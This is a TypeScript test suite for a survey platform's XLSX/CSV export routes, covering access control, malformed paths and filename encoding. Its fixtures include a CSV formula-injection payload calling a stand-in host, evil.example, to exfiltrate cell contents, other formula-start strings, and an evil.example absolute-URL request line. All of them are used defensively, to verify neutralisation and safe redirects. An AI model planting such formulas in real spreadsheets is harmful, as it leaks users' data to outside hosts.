import http from 'node:http';
import { beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { useTestDatabase } from '@server/test/db.js';
import { useApi, type ApiClient } from '@server/test/api.js';
import { fixtures } from '@server/test/factories.js';
import { useViewers } from '@server/test/viewers.js';
import { storeEdition } from '../edition/edition-bundle.js';
import { attachment } from './export.routes.js';

const db = useTestDatabase();
const api = useApi(db);
const { asStaff, asManager, asObserver, anonymous } = useViewers(db, api);

/**
 * 2024 (published) is factories.ts's fixture with two responses more for alfa, whose comments
 * start like formulas. The file's `fixtures()` numbers responses from 1, so:
 * - alfa-1 (1st): PHONE, FEMALE born 1971 (53 in 2024: 50–59), 2024-09-03 10:15 in Oslo, 17/20 = 85 %;
 * - alfa-2 (2nd): EMAIL, MALE 1972 (52), 09-04, wait 7200 s; REC_WELCOME not applicable: 7/12 = 58.33… %;
 * - alfa-3 (3rd): PHONE unanswered after 2 attempts, FEMALE 1973 (51), 09-05, wait 300 s: 0 of 20 = 0 %;
 * - beta-1, gamma-1 (4th, 5th): other companies;
 * - alfa-4 (6th): EMAIL, MALE 1976 (48: 40–49), 09-08; RT_WAIT C 0 + REC_WELCOME B 2 + AGT_NEEDS A 6 + OVR_BUY A 4 = 12/16 = 75 %;
 * - alfa-5 (7th): PHONE, FEMALE 1977 (47: 40–49), 09-09; RT_WAIT A 2 + REC C 0 + AGT_NEEDS C 0 + AGT_PHONE B 0 + OVR_BUY B 0 = 2/20 = 10 %.
 * Observers are OBS-1 … OBS-7: no file may carry them. 2025 is the same fixture, unpublished (REVIEW).
 * alfa is konkurrent (report bought, chose beta), gamma did not buy its report.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")';
const { fixtureBundle, fixtureResponses, response } = fixtures(); // one numbering for the file, as described above
function responses2024() {
  return [
    ...fixtureResponses(),
    response({
      inquiryId: 'alfa-4',
      companySlug: 'alfa',
      channel: 'EMAIL',
      answers: { RT_WAIT: 'C', REC_WELCOME: 'B', AGT_NEEDS: 'A', OVR_BUY: 'A' },
      comments: { reception: HYPERLINK, agent: '@SUM(1+1)', overall: '-2+3 poeng for innsatsen' },
    }),
    response({
      inquiryId: 'alfa-5',
      companySlug: 'alfa',
      channel: 'PHONE',
      answers: { RT_WAIT: 'A', REC_WELCOME: 'C', AGT_NEEDS: 'C', AGT_PHONE: 'B', OVR_BUY: 'B', CALLBACK: 'N' },
      comments: {
        reception: 'Kø, så en hyggelig stemme.',
        agent: '+47 22 00 00 00 ble oppgitt for tilbakeringing.',
        overall: 'Greit nok.',
      },
    }),
  ];
}

beforeAll(async () => {
  const edition2024 = fixtureBundle({ responses: responses2024() }); // first, so the factory's numbering is as described above
  await db.orm.em.fork().transactional(async (em) => {
    await storeEdition(em, edition2024, { status: 'PUBLISHED' });
    await storeEdition(em, fixtureBundle({ year: 2025 }), { status: 'REVIEW' });
  });
});

async function download(client: ApiClient, path: string) {
  const res = await fetch(`${api.url()}${path}`, { headers: client.cookie ? { cookie: client.cookie } : {} });
  return { res, body: Buffer.from(await res.arrayBuffer()) };
}

const DEFAULT_COMMENTS = [
  'Hyggelig mottak, sa navnet sitt.',
  'Spurte godt om behovet, men glemte å oppsummere.',
  'Effektiv samtale, «gode» råd, takk!',
];
const QUESTION_CODES = ['RT_WAIT', 'REC_WELCOME', 'AGT_NEEDS', 'AGT_PHONE', 'OVR_BUY', 'CALLBACK', 'CSAT', 'CES', 'NPS', 'VES1', 'VES2'];
const HEADER = [
  'Henvendelse',
  'Kanal',
  'Tidspunkt',
  'Forsøk',
  'Ventetid (sekunder)',
  'Status',
  'Poeng (%)',
  ...QUESTION_CODES,
  'Kommentar: mottak og velkomst',
  'Kommentar: kundebehandleren',
  'Kommentar: totalinntrykk',
  'Observatør: kjønn',
  'Observatør: alder',
];
const NO_ANSWERS = Array<null>(11).fill(null);

/**
 * alfa's rows as the XLSX holds them: contact times as the Oslo wall clock (a Date whose UTC
 * fields carry it), scores at full precision, answers as option labels, CX as numbers, formula
 * starts neutralised with an apostrophe.
 */
const XLSX_ROWS = [
  [
    'alfa-1',
    'Telefon',
    new Date('2024-09-03T10:15:00Z'),
    1,
    60,
    'Besvart',
    85,
    'Kort',
    'Personlig og hyggelig',
    'Ett',
    'Ja',
    'Ja',
    'Ja',
    5,
    6,
    10,
    5,
    4,
    ...DEFAULT_COMMENTS,
    'Kvinne',
    '50–59',
  ],
  [
    'alfa-2',
    'E-post',
    new Date('2024-09-04T10:15:00Z'),
    1,
    7200,
    'Besvart',
    (100 * 7) / 12,
    'Middels',
    'Ikke relevant',
    'Flere',
    null,
    'Nei',
    null,
    3,
    4,
    7,
    3,
    3,
    ...DEFAULT_COMMENTS,
    'Mann',
    '50–59',
  ],
  [
    'alfa-3',
    'Telefon',
    new Date('2024-09-05T10:15:00Z'),
    2,
    300,
    'Ikke besvart',
    0,
    ...NO_ANSWERS,
    'Ingen svar etter to forsøk.',
    null,
    null,
    'Kvinne',
    '50–59',
  ],
  [
    'alfa-4',
    'E-post',
    new Date('2024-09-08T10:15:00Z'),
    1,
    60,
    'Besvart',
    75,
    'Lenge',
    'Nøytral',
    'Flere',
    null,
    'Ja',
    null,
    null,
    null,
    null,
    null,
    null,
    `'${HYPERLINK}`,
    `'@SUM(1+1)`,
    `'-2+3 poeng for innsatsen`,
    'Mann',
    '40–49',
  ],
  [
    'alfa-5',
    'Telefon',
    new Date('2024-09-09T10:15:00Z'),
    1,
    60,
    'Besvart',
    10,
    'Kort',
    'Rutinepreget',
    'Ingen',
    'Nei',
    'Nei',
    'Nei',
    null,
    null,
    null,
    null,
    null,
    'Kø, så en hyggelig stemme.',
    `'+47 22 00 00 00 ble oppgitt for tilbakeringing.`,
    'Greit nok.',
    'Kvinne',
    '40–49',
  ],
];

/** The same rows as the CSV holds them: text, times as `2024-09-03 10:15`, scores `85,00`. */
const CSV_ROWS = XLSX_ROWS.map((row) =>
  row.map((value, i) => {
    if (value === null) return '';
    if (value instanceof Date) return value.toISOString().slice(0, 16).replace('T', ' ');
    if (typeof value === 'number') return i === 6 ? value.toFixed(2).replace('.', ',') : String(value);
    return value;
  }),
);

/** Every cell of a worksheet as a plain array per row (exceljs leaves empty cells null). */
function sheetRows(sheet: ExcelJS.Worksheet): unknown[][] {
  const result: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    result.push(
      Array.from({ length: sheet.columnCount }, (_, i) => {
        const value = row.getCell(i + 1).value;
        return value === '' ? null : value;
      }),
    );
  });
  return result;
}

async function readXlsx(body: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

/** All the text inside the XLSX (a zip of XML parts), to look for what must not be there. */
async function xlsxText(body: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(body);
  const parts = await Promise.all(Object.values(zip.files).map((f) => f.async('string')));
  return parts.join('\n');
}

describe('the responses as XLSX', () => {
  for (const [who, viewer] of [
    ['staff', asStaff],
    ['alfa', () => asManager('alfa')],
  ] as const) {
    it(`gives ${who} alfa's file: one row per approved inquiry, labels, comments, scores, observer band`, async () => {
      const { res, body } = await download(await viewer(), '/eksport/2024/alfa/besvarelser.xlsx');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="besvarelser-alfa-2024.xlsx"; filename*=UTF-8''besvarelser-alfa-2024.xlsx`,
      );
      expect(res.headers.get('cache-control')).toBe('private, no-store');

      const workbook = await readXlsx(body);
      expect(workbook.worksheets.map((s) => s.name)).toEqual(['Besvarelser', 'Spørreskjema']);
      const sheet = workbook.getWorksheet('Besvarelser')!;
      const [header, ...rows] = sheetRows(sheet);
      expect(header).toEqual(HEADER);
      expect(rows).toEqual(XLSX_ROWS);
    });
  }

  it('gives the same scores as the API’s responses { score }, as numbers showing 2 decimals and %', async () => {
    const staff = await asStaff();
    const api = await staff.query(
      `{ participation(year: 2024, companySlug: "alfa") { report { responses(first: 100) { edges { node { id score } } } } } }`,
    );
    const fromApi = api.data!.participation.report.responses.edges.map((e: { node: { id: string; score: number } }) => [
      e.node.id,
      e.node.score,
    ]);
    const sheet = (await readXlsx((await download(staff, '/eksport/2024/alfa/besvarelser.xlsx')).body)).getWorksheet('Besvarelser')!;
    const fromFile = sheetRows(sheet)
      .slice(1)
      .map((row) => [row[0], row[6]]);
    expect(fromFile).toEqual(fromApi);
    expect(fromFile[1]![1]).toBe((100 * 7) / 12); // full precision, not 58.33
    expect(sheet.getCell('G2').numFmt).toBe('0.00" %"');
    expect(sheet.getCell('C2').numFmt).toBe('dd.mm.yyyy hh:mm');
  });

  it('keeps the header row in place, filters on, sensible widths and wrapped comments', async () => {
    const sheet = (await readXlsx((await download(await asManager('alfa'), '/eksport/2024/alfa/besvarelser.xlsx')).body)).getWorksheet(
      'Besvarelser',
    )!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:W6');
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
    const widths = sheet.columns.map((c) => c.width);
    // Henvendelse, Telefon (at least 10), the time, Forsøk (at least 10), Ventetid (sekunder), Ikke besvart (12 + 2), Poeng (%).
    expect(widths.slice(0, 7)).toEqual([13, 10, 17, 10, 21, 14, 11]);
    expect(widths[8]).toBe(23); // REC_WELCOME: "Personlig og hyggelig" + 2
    expect(widths.slice(18, 21)).toEqual([50, 50, 50]); // the comments
    for (let row = 2; row <= 6; row += 1) {
      for (const column of ['S', 'T', 'U']) expect(sheet.getCell(`${column}${row}`).alignment).toMatchObject({ wrapText: true });
    }
    expect(sheet.getCell('A2').alignment?.wrapText).toBeFalsy();
  });

  it('has the questionnaire on a second sheet: code, text, area, channels, weight, options with points', async () => {
    const workbook = await readXlsx((await download(await asStaff(), '/eksport/2024/alfa/besvarelser.xlsx')).body);
    const sheet = workbook.getWorksheet('Spørreskjema')!;
    const rows = sheetRows(sheet);
    expect(rows[0]).toEqual(['Kode', 'Spørsmål', 'Område', 'Kanaler', 'Maks poeng', 'Svaralternativer (poeng)']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(QUESTION_CODES);
    expect(rows[2]).toEqual([
      'REC_WELCOME',
      'Hvordan opplevde du velkomsten?',
      'Mottak og velkomst',
      'Telefon, E-post, Chat, Messenger',
      4,
      'Personlig og hyggelig (4)\nNøytral (2)\nRutinepreget (0)\nIkke relevant (teller ikke)',
    ]);
    expect(rows[4]).toEqual([
      'AGT_PHONE',
      'Presenterte kundebehandleren seg med navn?',
      'Kundebehandleren',
      'Telefon',
      4,
      'Ja (4)\nNei (0)',
    ]);
    expect(rows[6]).toEqual(['CALLBACK', 'Fikk du tilbud om tilbakeringing?', 'Svar- og ventetid', 'Telefon', null, 'Ja\nNei']);
    expect(rows[7]).toEqual([
      'CSAT',
      'Hvor fornøyd er du med denne kundeopplevelsen?',
      'CX – kundeopplevelse',
      'Telefon, E-post, Chat, Messenger',
      null,
      'Skala 1–5',
    ]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:F12');
    expect(sheet.getCell('F3').alignment).toMatchObject({ wrapText: true });
  });

  it('never carries an observer’s id, anywhere in the file', async () => {
    const text = await xlsxText((await download(await asStaff(), '/eksport/2024/alfa/besvarelser.xlsx')).body);
    expect(text).toContain('Hyggelig mottak'); // the check reads the content
    expect(text).not.toMatch(/OBS-\d/);
  });

  it('speaks English with ?lang=en', async () => {
    const workbook = await readXlsx((await download(await asManager('alfa'), '/eksport/2024/alfa/besvarelser.xlsx?lang=en')).body);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Responses', 'Questionnaire']);
    const rows = sheetRows(workbook.getWorksheet('Responses')!);
    expect(rows[0]!.slice(0, 7)).toEqual(['Inquiry', 'Channel', 'Contacted at', 'Attempts', 'Wait (seconds)', 'Status', 'Score (%)']);
    expect(rows[3]!.slice(0, 7)).toEqual(['alfa-3', 'Phone', new Date('2024-09-05T10:15:00Z'), 2, 300, 'Not answered', 0]);
    expect(rows[1]!.slice(-2)).toEqual(['Female', '50–59']);
  });
});

describe('the responses as CSV', () => {
  for (const [who, viewer] of [
    ['staff', asStaff],
    ['alfa', () => asManager('alfa')],
  ] as const) {
    it(`gives ${who} alfa's file for Norwegian Excel: BOM, semicolons, decimal comma, Oslo times`, async () => {
      const { res, body } = await download(await viewer(), '/eksport/2024/alfa/besvarelser.csv');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="besvarelser-alfa-2024.csv"; filename*=UTF-8''besvarelser-alfa-2024.csv`,
      );
      expect(res.headers.get('cache-control')).toBe('private, no-store');
      expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = body.toString('utf8');
      expect(text).not.toMatch(/OBS-\d/);
      expect(text.split('\r\n')[1]).toBe(
        `alfa-1;Telefon;2024-09-03 10:15;1;60;Besvart;85,00;Kort;Personlig og hyggelig;Ett;Ja;Ja;Ja;5;6;10;5;4;` +
          'Hyggelig mottak, sa navnet sitt.;Spurte godt om behovet, men glemte å oppsummere.;Effektiv samtale, «gode» råd, takk!;Kvinne;50–59',
      );
      // A cell with the separator or a line break is quoted; a formula start gets its apostrophe inside the quotes.
      expect(text).toContain(`;"'${HYPERLINK.replace(/"/g, '""')}";`);
      const [header, ...rows] = parse(body, { bom: true, delimiter: ';' }) as string[][];
      expect(header).toEqual(HEADER);
      expect(rows).toEqual(CSV_ROWS);
      expect(rows.map((r) => r[6])).toEqual(['85,00', '58,33', '0,00', '75,00', '10,00']);
    });
  }
});

describe('who may download', () => {
  const refused = async (client: ApiClient, path: string, status: number, code: string) => {
    const { res, body } = await download(client, path);
    expect(res.status, `${client.who} ${path}`).toBe(status);
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const json = JSON.parse(body.toString('utf8')) as { error: { code: string; message: string } };
    expect(json.error.code).toBe(code);
    expect(body.toString('utf8')).not.toContain('alfa-1'); // no row of the file
  };

  it('refuses a konkurrent manager its chosen competitor’s responses (403), though it may read that report’s aggregates', async () => {
    const alfa = await asManager('alfa');
    const report = await alfa.query(`{ participation(year: 2024, companySlug: "beta") { report { total } } }`);
    expect(report.errors).toBeUndefined();
    expect(report.data!.participation.report.total).toBe(10);
    for (const format of ['xlsx', 'csv'])
      await refused(await asManager('alfa'), `/eksport/2024/beta/besvarelser.${format}`, 403, 'FORBIDDEN');
  });

  it('refuses a manager without the report, another company’s manager and an observer (403)', async () => {
    for (const format of ['xlsx', 'csv']) {
      await refused(await asManager('gamma'), `/eksport/2024/gamma/besvarelser.${format}`, 403, 'FORBIDDEN');
      await refused(await asManager('gamma'), `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
      await refused(await asObserver('OBS-1'), `/eksport/2024/alfa/besvarelser.${format}`, 403, 'FORBIDDEN');
    }
  });

  it('asks for a session without one (401)', async () => {
    for (const format of ['xlsx', 'csv'])
      await refused(await anonymous(), `/eksport/2024/alfa/besvarelser.${format}`, 401, 'UNAUTHENTICATED');
  });

  it('knows no unknown year or company, nor an unpublished edition but for staff (404)', async () => {
    for (const format of ['xlsx', 'csv']) {
      await refused(await asStaff(), `/eksport/2024/ukjent/besvarelser.${format}`, 404, 'NOT_FOUND');
      await refused(await asStaff(), `/eksport/2019/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
      await refused(await asStaff(), `/eksport/tjue/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
      await refused(await asManager('alfa'), `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
      await refused(await anonymous(), `/eksport/2025/alfa/besvarelser.${format}`, 404, 'NOT_FOUND');
    }
    const { res, body } = await download(await asStaff(), '/eksport/2025/alfa/besvarelser.csv');
    expect(res.status).toBe(200);
    expect(body.toString('utf8').split('\r\n').filter(Boolean)).toHaveLength(4); // header + alfa's three 2025 responses
  });
});

describe('the export paths', () => {
  const FILES = ['rapport.pdf', 'besvarelser.xlsx', 'besvarelser.csv'];
  async function send(client: ApiClient, path: string, init: RequestInit = {}) {
    const headers = { ...(client.cookie ? { cookie: client.cookie } : {}), ...(init.headers as Record<string, string> | undefined) };
    const res = await fetch(`${api.url()}${path}`, { redirect: 'manual', ...init, headers });
    return { res, text: await res.text() };
  }
  /** The refusal every export sends: a JSON error of that code, no file, nothing cached. */
  async function jsonError(client: ApiClient, path: string, status: number, code: string, init: RequestInit = {}) {
    const { res, text } = await send(client, path, init);
    const what = `${init.method ?? 'GET'} ${path}`;
    expect(res.status, what).toBe(status);
    expect(res.headers.get('content-type'), what).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition'), what).toBeNull();
    expect(res.headers.get('cache-control'), what).toBe('private, no-store');
    const json = JSON.parse(text) as { error: { code: string; message: string } };
    expect(json.error.code, what).toBe(code);
    return { res, message: json.error.message };
  }

  it('answers a malformed year or company 404 before it looks at the session or the database', async () => {
    for (const viewer of [anonymous, asStaff]) {
      const client = await viewer();
      for (const file of FILES) {
        await jsonError(client, `/eksport/2024/alfa%00/${file}`, 404, 'NOT_FOUND'); // was a 500: PostgreSQL refuses NUL
        await jsonError(client, `/eksport/20x4/alfa/${file}`, 404, 'NOT_FOUND');
        await jsonError(client, `/eksport/02024/alfa/${file}`, 404, 'NOT_FOUND');
        await jsonError(client, `/eksport/2024/alfa%20bank/${file}`, 404, 'NOT_FOUND');
        await jsonError(client, `/eksport/2024/%20alfa/${file}`, 404, 'NOT_FOUND');
        await jsonError(client, `/eksport/2024/al%2Ffa/${file}`, 404, 'NOT_FOUND');
        await jsonError(client, `/eksport/2024/-alfa/${file}`, 404, 'NOT_FOUND');
      }
    }
    const { message } = await jsonError(await anonymous(), '/eksport/20x4/alfa/rapport.pdf', 404, 'NOT_FOUND');
    expect(message).toBe(
      'No download at "/eksport/20x4/alfa/rapport.pdf": the year is 4 digits and the company a slug such as "acme-bank".',
    );
  });

  it('answers a path that is not percent-encoded correctly 404 JSON, not Express’s HTML page', async () => {
    for (const path of [
      '/eksport/2024/%ff%fe/rapport.pdf',
      '/eksport/%ff/alfa/besvarelser.csv',
      '/eksport/2024/alfa/%e0%a4%a.xlsx',
      '/eksport/2024/al%fa/besvarelser.xlsx',
    ]) {
      const { message } = await jsonError(await asStaff(), path, 404, 'NOT_FOUND');
      expect(message).toBe('No download at this path: it is not valid percent-encoded UTF-8.');
      await jsonError(await asStaff(), path, 404, 'NOT_FOUND', { method: 'POST' });
    }
  });

  it('knows no other path under /eksport (404 JSON)', async () => {
    for (const path of [
      '/eksport',
      '/eksport/',
      '/eksport/2024',
      '/eksport/2024/alfa',
      '/eksport/2024/alfa/rapport.docx',
      '/eksport/2024/alfa/rapport.pdf/x',
    ]) {
      await jsonError(await asStaff(), path, 404, 'NOT_FOUND');
      await jsonError(await anonymous(), path, 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
    }
  });

  it('answers any method but GET and HEAD 405 JSON with Allow, and sends no file', async () => {
    const staff = await asStaff();
    for (const file of FILES) {
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
        const { res, message } = await jsonError(staff, `/eksport/2024/alfa/${file}`, 405, 'METHOD_NOT_ALLOWED', { method });
        expect(res.headers.get('allow')).toBe('GET, HEAD');
        expect(message).toBe(`${method} is not allowed on a download: use GET (or HEAD).`);
      }
      const head = await send(staff, `/eksport/2024/alfa/${file}`, { method: 'HEAD' });
      expect(head.res.status).toBe(200);
      expect(head.res.headers.get('content-disposition')).toMatch(/^attachment; /);
    }
  });

  it('sends a browser without a session to the sign-in page, which returns to the file', async () => {
    const browserAccept = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8';
    for (const [path, back] of [
      ['/eksport/2024/alfa/rapport.pdf', '%2Feksport%2F2024%2Falfa%2Frapport.pdf'],
      ['/eksport/2024/alfa/besvarelser.xlsx?lang=en', '%2Feksport%2F2024%2Falfa%2Fbesvarelser.xlsx%3Flang%3Den'],
      ['/eksport/2024/beta/besvarelser.csv', '%2Feksport%2F2024%2Fbeta%2Fbesvarelser.csv'],
    ] as const) {
      for (const accept of ['text/html', browserAccept]) {
        const { res, text } = await send(await anonymous(), path, { headers: { accept } });
        expect(res.status, path).toBe(303);
        expect(res.headers.get('location'), path).toBe(`/logg-inn?til=${back}`);
        expect(res.headers.get('cache-control')).toBe('private, no-store');
        expect(res.headers.get('content-disposition')).toBeNull();
        expect(text).not.toContain('alfa-1');
      }
    }
    // A request line may carry a whole URL: only its path and query go back to the sign-in page.
    const absolute = await new Promise<http.IncomingMessage>((resolve, reject) => {
      const { hostname, port } = new URL(api.url());
      http
        .get(
          { hostname, port, path: 'http://evil.example/eksport/2024/alfa/rapport.pdf?lang=en', headers: { accept: 'text/html' } },
          resolve,
        )
        .on('error', reject);
    });
    absolute.resume();
    expect(absolute.statusCode).toBe(303);
    expect(absolute.headers.location).toBe('/logg-inn?til=%2Feksport%2F2024%2Falfa%2Frapport.pdf%3Flang%3Den');
    // A session cookie that no longer opens a session is no session either.
    const expired = await send(await anonymous(), '/eksport/2024/alfa/rapport.pdf', {
      headers: { accept: 'text/html', cookie: 'ksp_session=gone' },
    });
    expect(expired.res.status).toBe(303);
  });

  it('keeps 401 JSON for a client that is not a browser, and 403 or 404 for a browser too', async () => {
    for (const accept of [undefined, '*/*', 'application/json', 'application/pdf']) {
      for (const file of FILES) {
        await jsonError(await anonymous(), `/eksport/2024/alfa/${file}`, 401, 'UNAUTHENTICATED', { headers: accept ? { accept } : {} });
      }
    }
    await jsonError(await asManager('gamma'), '/eksport/2024/alfa/besvarelser.csv', 403, 'FORBIDDEN', { headers: { accept: 'text/html' } });
    await jsonError(await anonymous(), '/eksport/2024/ukjent/rapport.pdf', 404, 'NOT_FOUND', { headers: { accept: 'text/html' } });
  });
});

describe('Content-Disposition', () => {
  it('gives an ASCII filename and the UTF-8 filename* (RFC 6266)', () => {
    expect(attachment('besvarelser-alfa-2024.csv')).toBe(
      `attachment; filename="besvarelser-alfa-2024.csv"; filename*=UTF-8''besvarelser-alfa-2024.csv`,
    );
    expect(attachment('besvarelser-blåbær "x"-2024.csv')).toBe(
      `attachment; filename="besvarelser-bl_b_r _x_-2024.csv"; filename*=UTF-8''besvarelser-bl%C3%A5b%C3%A6r%20%22x%22-2024.csv`,
    );
  });
});
